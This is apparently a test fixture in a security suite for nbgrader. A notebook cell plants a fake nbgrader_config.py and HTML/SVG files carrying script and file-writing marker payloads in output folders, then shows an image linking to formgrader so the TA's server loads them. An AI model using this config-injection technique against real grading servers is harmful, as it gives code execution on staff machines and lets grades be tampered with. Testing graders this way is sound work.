"""Leaves a configuration among its records and shows a picture whose address makes formgrader read it.

Gains: code in the TA's server, if a record may have any name and a notebook may load pictures from formgrader.
"""
ASSIGNMENT = "first-network"
HONEST = []
REST = "blank"

# %% [reshape]
import pathlib

from IPython.display import HTML, Markdown, display

for name in ("nbgrader_config.py", "page.html", "drawing.svg"):
    for folder in (pathlib.Path(".out"), pathlib.Path("../.out"), pathlib.Path("/scratch/.out")):
        try:
            (folder / name).write_text("<script>document.title = 'mine'</script>\nopen('/tmp/mine', 'w')")
        except OSError:
            pass
display(Markdown("![a figure](/formgrader?path=results/101/first-network/artifacts)"))
display(HTML("<img src='/formgrader?path=results/101/first-network/artifacts'>"))
